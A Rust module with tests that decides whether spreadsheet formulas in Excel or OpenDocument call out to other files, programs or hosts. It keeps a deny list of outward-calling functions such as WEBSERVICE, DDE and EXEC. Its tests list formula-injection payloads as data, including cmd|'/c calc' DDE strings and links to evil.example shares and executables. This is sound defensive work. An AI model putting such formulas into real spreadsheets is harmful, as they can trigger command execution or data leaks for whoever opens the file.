//! Formulas of spreadsheets: whether one asks another file, program or machine.
//!
//! A formula is taken apart as spreadsheets do: texts in double quotes, names of sheets in single ones, brackets, words. What
//! cannot be taken apart so, or is read in different ways by different programs, counts as asking: its value stays in
//! its place.
//!
//! Grammars: ECMA-376 part 1, 18.17; OASIS OpenDocument 1.3 part 4, 5.

use std::collections::HashSet;

/// The names of a workbook's sheets that are kept, in small letters.
pub(super) type Sheets = HashSet<String>;

/// Which brackets a formula has.
#[derive(Clone, Copy)]
pub(super) enum Grammar<'s> {
    /// Excel's: of other books, and behind a table's name of its columns.
    Excel(&'s Sheets),
    /// OpenFormula's: of references.
    OpenDocument,
}

impl Grammar<'_> {
    fn is_excel(self) -> bool {
        matches!(self, Self::Excel(_))
    }
}

/// Whether a name is one that Excel lets a sheet have.
pub(super) fn is_sheet_name(name: &str) -> bool {
    !name.is_empty()
        && name.chars().count() <= 31
        && !name.contains(['[', ']', '\\', '/', '?', '*', ':'])
        && !name.starts_with('\'')
        && !name.ends_with('\'')
}

/// Functions that call out, without what stands before their names.
const FUNCTIONS: &[&str] = &[
    "WEBSERVICE",
    // LibreOffice opens what its text names, wherever that is.
    "INDIRECT",
    "RTD",
    "CALL",
    "REGISTER",
    "REGISTER.ID",
    "EXEC",
    "EXECUTE",
    "FOPEN",
    "IMAGE",
    "DDE",
    "DDEAUTO",
    "INITIATE",
    "REQUEST",
    "POKE",
    "SQL.REQUEST",
    "RUN",
    "EVALUATE",
    "STOCKHISTORY",
    "TRANSLATE",
    "DETECTLANGUAGE",
    "COPILOT",
    "PY",
    "IMPORTXML",
    "IMPORTHTML",
    "IMPORTDATA",
    "IMPORTFEED",
    "IMPORTRANGE",
    "IMPORTTEXT",
    "IMPORTCSV",
    // Google's own in a text, which it makes a formula again.
    "__XLUDF.DUMMYFUNCTION",
    "MACRO",
    // Excel's old macro language, of which names take some.
    "FILES",
    "DIRECTORY",
    "DOCUMENTS",
    "LINKS",
    "OPEN",
    "OPEN.LINKS",
    "OPEN.TEXT",
    "OPEN.XML",
    "OPEN.DATABASE",
    "CHANGE.LINK",
    "UPDATE.LINK",
    "GET.LINK.INFO",
    "FREAD",
    "FREADLN",
    "FWRITE",
    "FWRITELN",
    "FSIZE",
    "FCLOSE",
    "FILE.DELETE",
    "FILE.EXISTS",
    "CREATE.DIRECTORY",
    "DELETE.DIRECTORY",
    "SAVE",
    "SAVE.AS",
    "SEND.MAIL",
    "SEND.KEYS",
    "SEND.TO.MAIL.RECIPIENT",
    "INSERT.OBJECT",
    "INSERT.PICTURE",
    "UNREGISTER",
    "TERMINATE",
    "ON.TIME",
    "ON.DATA",
    "ON.SHEET",
    "ON.WINDOW",
    "ON.RECALC",
    "ON.ENTRY",
    "ON.KEY",
    "APP.ACTIVATE",
    "GOTO",
];

/// What stands before names of functions, by the program that has them.
const BEFORE: &[&str] =
    &["_XLFN.", "_XLWS.", FUNCTION_ITSELF, "COM.MICROSOFT.", "ORG.OPENOFFICE.", "ORG.LIBREOFFICE."];

/// What Excel writes before the name of a function that is given to another one, which calls it: `MAP(A1:A3,SUM)`.
const FUNCTION_ITSELF: &str = "_XLETA.";

/// What stands after the sign of an error.
const ERRORS: &[&str] = &[
    "REF!",
    "N/A",
    "NAME?",
    "VALUE!",
    "DIV/0!",
    "NUM!",
    "NULL!",
    "SPILL!",
    "CALC!",
    "FIELD!",
    "BLOCKED!",
    "CONNECT!",
    "UNKNOWN!",
    "GETTING_DATA",
];

/// Whether a formula asks another file, program or machine.
pub(super) fn calls_out(formula: &str, grammar: Grammar<'_>) -> bool {
    let mut reading = Reading { rest: formula, before: ' ', rows: 0, grammar };
    while !reading.rest.is_empty() {
        if reading.part().is_none() {
            return true;
        }
    }
    false
}

/// Whether the address of cells of an OpenDocument (or several, with blanks between) leads to another file.
pub(super) fn leads_out(address: &str) -> bool {
    let mut reading = Reading { rest: address, before: ' ', rows: 0, grammar: Grammar::OpenDocument };
    while let Some(letter) = reading.rest.chars().next() {
        let passed = match letter {
            '\'' => reading.sheet(true),
            '#' => reading.error(),
            // What stands in no name of a sheet.
            '[' | ']' | '\\' | '/' | '"' => None,
            letter => {
                reading.skip(letter.len_utf8());
                Some(())
            }
        };
        if passed.is_none() {
            return true;
        }
    }
    false
}

struct Reading<'f> {
    rest: &'f str,
    /// The letter before.
    before: char,
    /// How deep within written tables, whose rows are divided by bars in OpenDocument.
    rows: u32,
    grammar: Grammar<'f>,
}

fn is_word(letter: char) -> bool {
    letter.is_alphanumeric() || matches!(letter, '_' | '.' | '?')
}

impl<'f> Reading<'f> {
    fn skip(&mut self, bytes: usize) -> &'f str {
        let (passed, rest) = self.rest.split_at(bytes);
        self.before = passed.chars().next_back().unwrap_or(self.before);
        self.rest = rest;
        passed
    }

    /// Passes one part; nothing if it calls out.
    fn part(&mut self) -> Option<()> {
        let letter = self.rest.chars().next()?;
        match letter {
            '"' => self.quoted('"').map(drop),
            '\'' => self.sheet(false),
            '[' if self.grammar.is_excel() => self.table(),
            '[' => self.reference(),
            '|' | '｜' if self.grammar.is_excel() || self.rows == 0 => None,
            // A path.
            '\\' => None,
            '/' if self.rest.starts_with("//") => None,
            ']' => None,
            '#' => self.error(),
            '{' | '}' => {
                self.rows = if letter == '{' { self.rows + 1 } else { self.rows.saturating_sub(1) };
                self.skip(1);
                Some(())
            }
            letter if is_word(letter) => self.word(),
            letter => {
                self.skip(letter.len_utf8());
                Some(())
            }
        }
    }

    /// What stands in quotes, which are written twice within; nothing if they do not end.
    fn quoted(&mut self, quote: char) -> Option<&'f str> {
        let inside = self.rest.get(1..)?;
        let mut from = 0;
        loop {
            let end = from + inside[from..].find(quote)?;
            if inside[end + 1..].starts_with(quote) {
                from = end + 2;
                continue;
            }
            self.skip(end + 2);
            return Some(&inside[..end]);
        }
    }

    /// The name of a sheet in quotes; it has none of the signs that paths and books have. `is_address` is whether nothing but
    /// the address of cells of an OpenDocument can stand there, where a file has a sign of its own behind it.
    fn sheet(&mut self, is_address: bool) -> Option<()> {
        let name = self.quoted('\'')?;
        let is_path = name.contains(['[', ']', '\\', '/', '*', '?']) || name.contains("file:");
        let is_other = match self.grammar {
            _ if is_address => self.rest.trim_start().starts_with('#'),
            // A program and what it is asked for stand before and behind a bar.
            Grammar::Excel(sheets) => name.contains(['|', '｜']) && !self.is_cell_of(name, sheets),
            Grammar::OpenDocument => name.contains(['|', '｜', '#']),
        };
        // A name that a program is asked for would come next.
        (!is_path && !is_other && !self.calls_behind()).then_some(())
    }

    /// Whether a name in quotes is that of a sheet of this workbook, and a cell of it follows.
    fn is_cell_of(&self, name: &str, sheets: &Sheets) -> bool {
        let cell = self.rest.strip_prefix('!').unwrap_or_default();
        let cell = cell.strip_prefix('$').unwrap_or(cell);
        let row = cell.trim_start_matches(|letter: char| letter.is_ascii_alphabetic());
        let is_column = (1..=3).contains(&(cell.len() - row.len()));
        let row = row.strip_prefix('$').unwrap_or(row);
        is_column
            && row.starts_with(|digit| matches!(digit, '1'..='9'))
            && sheets.contains(&name.replace("''", "'").to_lowercase())
    }

    /// Whether a function follows that belongs to another book.
    fn calls_behind(&self) -> bool {
        let Some(rest) = self.rest.trim_start().strip_prefix('!') else { return false };
        let word = rest.trim_start_matches(is_word);
        word.len() < rest.len() && word.trim_start().starts_with('(')
    }

    /// Brackets of Excel: columns of the table whose name stands before, or another book.
    fn table(&mut self) -> Option<()> {
        let has_name = is_word(self.before) || self.before == ']';
        let is_row = self.rest.starts_with("[#") || self.rest.starts_with("[@");
        // This book by its number, as charts write it.
        if self.rest.starts_with("[0]!") {
            self.skip(4);
            return Some(());
        }
        let (mut depth, mut all) = (0_u32, self.rest.char_indices());
        let end = loop {
            match all.next()? {
                (_, '[') => depth += 1,
                (at, ']') => {
                    depth -= 1;
                    if depth == 0 {
                        break at + 1;
                    }
                }
                // Before a sign that is meant as a letter. Others are read in more than one way.
                (_, '\'') => {
                    all.next().filter(|(_, letter)| matches!(letter, '[' | ']' | '#' | '\'' | '@'))?;
                }
                (_, '"' | '|' | '\\') => return None,
                _ => {}
            }
        };
        self.skip(end);
        let goes_on = self.rest.starts_with(|letter| is_word(letter) || matches!(letter, '!' | '\'' | '$'));
        ((has_name || is_row) && !goes_on).then_some(())
    }

    /// Brackets of OpenFormula: cells, of this document if no file stands before.
    fn reference(&mut self) -> Option<()> {
        self.skip(1);
        let mut is_empty = true;
        loop {
            let letter = self.rest.chars().next()?;
            match letter {
                ']' if is_empty => return None,
                ']' => break,
                '\'' => self.sheet(true)?,
                '#' => self.error()?,
                letter if is_word(letter) || matches!(letter, '$' | ':' | ' ' | '!' | '-') => {
                    self.skip(letter.len_utf8());
                }
                _ => return None,
            }
            // A number alone is another book, as Excel writes it.
            is_empty &= letter.is_ascii_digit() || letter == ' ';
        }
        self.skip(1);
        (!self.rest.starts_with(|letter| is_word(letter) || matches!(letter, '\'' | '$'))).then_some(())
    }

    /// The sign of an error, or the one behind a cell from which others are filled.
    fn error(&mut self) -> Option<()> {
        let is_filled = self.grammar.is_excel() && (is_word(self.before) || self.before == ')');
        self.skip(1);
        if let Some(error) = ERRORS.iter().find(|error| self.rest.starts_with(**error)) {
            self.skip(error.len());
            return Some(());
        }
        let goes_on = self.rest.starts_with(|letter| is_word(letter) || matches!(letter, '$' | '\''));
        (is_filled && !goes_on).then_some(())
    }

    /// A name, a number, or a function if a bracket follows.
    fn word(&mut self) -> Option<()> {
        let is_behind = self.before == '!';
        let is_first = matches!(self.before, '(' | '（' | ',' | ';' | '=') || self.before.is_whitespace();
        let end = self.rest.find(|letter| !is_word(letter)).unwrap_or(self.rest.len());
        let word = self.skip(end);
        let behind = self.rest.trim_start();
        let arguments = behind.strip_prefix(['(', '（']);
        // The sheet of another book's function, or the function.
        if arguments.map_or_else(|| self.calls_behind(), |_| is_behind) && self.grammar.is_excel() {
            return None;
        }
        let upper = narrow(word);
        let mut name = upper.as_str();
        let is_itself = name.contains(FUNCTION_ITSELF);
        while let Some(bare) = BEFORE.iter().find_map(|before| name.strip_prefix(before)) {
            name = bare;
        }
        if arguments.is_none() && !is_itself {
            // Given to another one, or named by a name, a function is called there. What is computed with is a name of the book.
            let is_given = is_first && (behind.is_empty() || behind.starts_with([',', ';', ')', '）']));
            return (!is_given || !FUNCTIONS.contains(&name) && name != "HYPERLINK").then_some(());
        }
        let is_of_others =
            name.starts_with("_XLL.") || name.starts_with("COM.SUN.") || name.starts_with("CUBE");
        let leads_away = name == "HYPERLINK" && !is_open_address(arguments.unwrap_or_default());
        (!FUNCTIONS.contains(&name) && !is_of_others && !leads_away).then_some(())
    }
}

/// Whether the first argument of a link begins with where it may lead: a machine by its whole name, or a place of this file.
fn is_open_address(arguments: &str) -> bool {
    let Some(text) = arguments.trim_start().strip_prefix('"') else { return false };
    let Some((address, behind)) = text.split_once('"') else { return false };
    let is_whole = behind.trim_start().starts_with([',', ';', ')']);
    let address = address.trim().to_ascii_lowercase();
    // More may be put behind it; then the machine's name must have ended.
    let rest = address.splitn(3, '/').nth(2).unwrap_or_default();
    let names_machine = rest.split_once('/').is_some_and(|(machine, _)| !machine.is_empty());
    let place = address.strip_prefix('#').filter(|place| super::address::is_inside(place));
    // What is put behind a place is no sheet once there is one.
    place.is_some_and(|place| is_whole || place.contains('!') || is_made_of_places(place, behind))
        || address.starts_with("mailto:")
        || crate::links::is_open(&address) && (is_whole || names_machine)
}

/// Functions that make signs of what has none in it.
const MAKING_SIGNS: &[&str] = &["CHAR", "UNICHAR", "ASC"];

/// Whether what is put together to a place, as tables of contents do (`"#'"&A1&"'!A1"`), is one of this file: a link that begins
/// with `#` is looked for in the file that has it, and no text in the formula makes it a path or another book.
fn is_made_of_places(begin: &str, behind: &str) -> bool {
    let is_place = |text: &str| !text.contains(['/', '[', ']', '\\']) && super::address::is_inside(text);
    let mut rest = behind.trim_start();
    if !is_place(begin) || !rest.starts_with('&') {
        return false;
    }
    let mut depth = 0_u32;
    while let Some(letter) = rest.chars().next() {
        let end = match letter {
            '"' | '\'' => {
                let Some((text, behind)) = rest[1..].split_once(letter) else { return false };
                if letter == '"' && !is_place(text) {
                    return false;
                }
                rest = behind;
                continue;
            }
            ',' | ';' | ')' | '）' if depth == 0 => return true,
            letter if is_word(letter) => {
                let end = rest.find(|letter| !is_word(letter)).unwrap_or(rest.len());
                let name = narrow(&rest[..end]);
                let name = BEFORE.iter().find_map(|before| name.strip_prefix(before)).unwrap_or(&name);
                if MAKING_SIGNS.contains(&name) {
                    return false;
                }
                end
            }
            letter => {
                match letter {
                    '(' | '（' => depth += 1,
                    ')' | '）' => depth -= 1,
                    _ => {}
                }
                letter.len_utf8()
            }
        };
        rest = &rest[end..];
    }
    false
}

/// A name in capitals; programs take full-width letters for these as well.
fn narrow(word: &str) -> String {
    let narrow = |letter: char| match letter {
        '\u{ff01}'..='\u{ff5e}' => char::from_u32(u32::from(letter) - 0xfee0).unwrap_or(letter),
        letter => letter,
    };
    word.chars().map(narrow).collect::<String>().to_uppercase()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn excel(formula: &str) -> bool {
        calls_out(formula, Grammar::Excel(&Sheets::from(["a|b".to_owned()])))
    }

    fn opendocument(formula: &str) -> bool {
        calls_out(formula, Grammar::OpenDocument)
    }

    #[test]
    fn formulas_of_excel_that_call_out_are_known_in_every_spelling() {
        for formula in [
            "[1]Sheet1!A1",
            " [1]Sheet1!A1",
            "SUM( [1]Sheet1!A1)",
            "A1+[ 1]Sheet1!A1",
            "'[2]表 1'!$A$1",
            "[1]!Name",
            "[Book.xlsx]S!A1",
            "'\\\\evil.example\\share\\[a.xlsx]S'!A1",
            "'http://h/[a.xlsx]S'!A1",
            "'c:\\x\\[a.xlsx]S'!A1",
            "\\\\evil\\s[a.xlsx]S!A1",
            "http://h/a[b.xlsx]S!A1",
            "'x.xla'!Run(1)",
            "x.xla!Run(1)",
            "cmd|'/c calc'!A0",
            "'cmd|/c calc'!A0",
            "IF('a\"b'!A1,cmd|'/c calc'!A0,\"x\")",
            "IF('it''s \"'!A1,cmd|'/c calc'!A0,\"x\")",
            "IF(1,T[a\"b]&cmd|'/c calc'!A0,\"\")",
            "WEBSERVICE(A1)",
            "_xlfn.WEBSERVICE (\"http://x\")",
            "_xlfn._xlws.webservice\n(A1)",
            "COM.MICROSOFT.WEBSERVICE(A1)",
            "ＷＥＢＳＥＲＶＩＣＥ(A1)",
            "IF('a\"b'!A1,WEBSERVICE(\"http://x\"),1)",
            "RTD(\"x\",,\"y\")",
            "SUM(OFFSET(INDIRECT(\"'http://x/[a.xlsx]S'!A1\"),1,1))",
            "INDIRECT(B1)",
            "FILES(\"\\\\evil.example\\s\\*\")",
            "_xlfn.MAP(A1:A3,_xleta.WEBSERVICE)",
            "_xlfn.LET(_xlpm.f,_xleta.webservice,_xlpm.f(A1))",
            "_xlfn.MAP(B1,_xlfn.WEBSERVICE)",
            "_xlfn.LET(_xlpm.w,WebService,_xlpm.w(\"http://x/\"))",
            "_xlfn.REDUCE(\"http://x/\",B1:B2,HYPERLINK)",
            "INDIRECT",
            "IFERROR(__xludf.DUMMYFUNCTION(\"IMPORTXML(\"\"http://x\"\")\"),1)",
            "_xlfn.IMPORTCSV(\"http://x\")",
            "'A|C'!A1",
            "'A|B'!A0",
            "'A|B'!Name",
            "'工事｜道路'!A1",
            "'x.ods'#$Sheet1.A1",
            "HYPERLINK(\"#[\\\\evil.example\\s\\a.xlsx]S!A1\")",
            "HYPERLINK(\"#\"&\"[\\\\evil.example\\s\\a.xlsx]S!A1\")",
            "HYPERLINK(\"#\"&CHAR(91)&A1)",
            "HYPERLINK(\"#\"&_xlfn.UNICHAR(92)&A1)",
            "HYPERLINK(\"#\"&ASC(\"［＼＼evil.example\")&A1)",
            "HYPERLINK(\"#f\"&\"ile:\"&\"/\"&\"/\"&A1)",
            "HYPERLINK(\"#\"&A1",
            "HYPERLINK(\"\"&\"#\"&A1)",
            "HYPERLINK(A1&\"#\"&B1)",
            "HYPERLINK(\"https://x@evil.example/\")",
            "HYPERLINK(\"https:///\"&A1)",
            "HYPERLINK(\"#file:///c:/x\")",
            "HYPERLINK(\"file:///c:/x\")",
            "HYPERLINK(\"\\\"&\"\\evil.example\\s\\run.exe\",\"x\")",
            "HYPERLINK(A1)",
            "HYPERLINK(\"http://\"&A1)",
            "_xll.Func(1)",
            "'never ends",
            "\"never ends",
        ] {
            assert!(excel(formula), "{formula}");
        }
        for formula in [
            "SUM(A1:B2)",
            "表1[1]",
            "\"a|b\"&A1",
            "\"it's\"&'表 1'!A1&\"[1]S!A1\"",
            "'it''s'!A1",
            "Table1[[#This Row],[1]]",
            "Table1[[#Headers],[a'[b]]",
            "SUM(Table1[@Col])",
            "IF(ISERROR(A1),#N/A,#DIV/0!)",
            "A1#",
            "{1,2;3,4}",
            "A1/B1*100%",
            "[0]!Name",
            "CALLS(1)",
            "HYPERLINK(\"https://x/\")",
            "HYPERLINK(\"https://x/?q=\"&A1,\"地図\")",
            "HYPERLINK(\"#表!A1\",\"戻る\")",
            "HYPERLINK(\"#'表 1'!A\"&ROW(),\"戻る\")",
            "HYPERLINK(\"#\"&A1)",
            "HYPERLINK(\"#'\"&A1&\"'!A1\",A1)",
            "HYPERLINK(\"#\"&CELL(\"address\",INDEX('表,1'!A:A,MATCH(B1,'表,1'!B:B,0))),\"→\")",
            "HYPERLINK(\"#表\" & TEXT(A1,\"00\") & \"!A1:B\" & ROW(),\"https://x/\")",
            "'#1 工事'!A1+SUM('#1 工事'!$A$1:$B$2)",
            "'a|B'!$A$1+'A|b'!A2",
            "_xlfn.MAP(A1:A3,_xleta.SUM)",
            "Files+OPEN",
            "SUM(OPEN!A1,IMAGE!B2)",
            "TEXT(A1,\"yyyy/m/d\")&\"http://x\"",
        ] {
            assert!(!excel(formula), "{formula}");
        }
    }

    #[test]
    fn formulas_of_opendocument_that_call_out_are_known_in_every_spelling() {
        for formula in [
            "of:=DDE(\"soffice\";\"/tmp/x.ods\";\"a\")",
            "of:=DDE (\"soffice\";\"/tmp/x.ods\";\"a\")",
            "of:=['file:///tmp/x.ods'#$Sheet1.A1]",
            "of:=['x.ods'#$Sheet1.A1]",
            "of:=['x.ods' # $Sheet1.A1]",
            "of:=[x.ods#Sheet1.A1]",
            "of:=[x.ods# $Sheet1.A1]",
            "of:=['#1 x.ods'#$Sheet1.A1]",
            "of:='A|B'!A1",
            "oooc:='file:///x.ods'#Sheet1.A1",
            "of:=WEBSERVICE([.A1])",
            "of:=INDIRECT(\"'http://x/'#$src.A1\")",
            "of:=COM.MICROSOFT.WEBSERVICE ([.A1])",
            "of:=IF([$'a\"b'.B1]=0;WEBSERVICE(\"http://x\");1)",
            "of:=cmd|'/c calc'!A0",
            "of:='\\\\evil\\[a.xlsx]S'!A1",
            "of:=[1]Sheet!A1",
            "of:=HYPERLINK(\"file:///c:/x\")",
        ] {
            assert!(opendocument(formula), "{formula}");
        }
        for formula in [
            "of:=SUM([.A1:.B2])",
            "of:={1;2|3;4}",
            "of:=[$'表 1'.A1]&\"a|b\"",
            "of:=[$'it''s \"'.$A$1:.$B$2]",
            "of:=IF([.A1]=0;#REF!;1)",
            "of:=SUM([.#REF!A1])+[#REF!.A1]",
            "of:=SUM([.A1:.B2]![.B2:.C3])",
            "of:=SUM([$'#1 工事'.A1:.B2])+[$'A|B'.A1]",
            "of:=HYPERLINK(\"https://www.city.kanazawa.lg.jp/\")",
            "ooow:<A1>+<B2>/2",
            "cell-content()>10",
            "is-true-formula([.A1]=0)",
        ] {
            assert!(!opendocument(formula), "{formula}");
        }
    }

    #[test]
    fn addresses_of_cells_in_another_file_are_known() {
        for address in [
            "'file:///tmp/x.ods'#$src.$A$2",
            "'file:///tmp/x.ods' #$src.$A$2",
            "x.ods#$src.A1",
            "file:///x.ods#src.A1",
            "$a.A1 'x.ods'#$b.A1",
            "\\\\evil\\x.ods",
            "'http://x/[a.xlsx]S'!A1",
            "'never ends",
        ] {
            assert!(leads_out(address), "{address}");
        }
        for address in [
            "",
            "$表.$A$1:.$B$2",
            "$'#1 工事・道路'.$A$1:$'#1 工事・道路'.$B$2 $b.A1",
            "'it''s'.A1",
            "工事・道路(1).A1:工事・道路(1).B2",
            "$a.#REF!",
            "#REF!.A1",
            "local-table.$B$2:.$B$5",
        ] {
            assert!(!leads_out(address), "{address}");
        }
    }

    #[test]
    fn a_long_formula_is_read_in_time_that_grows_with_it() {
        for piece in ["[", "'", "\"", "a(", "a!", "[a]", "(", " (", "a ", "#"] {
            let begun = std::time::Instant::now();
            excel(&piece.repeat((1 << 17) / piece.len()));
            opendocument(&piece.repeat((1 << 17) / piece.len()));
            assert!(begun.elapsed() < std::time::Duration::from_secs(5), "{piece}");
        }
    }
}
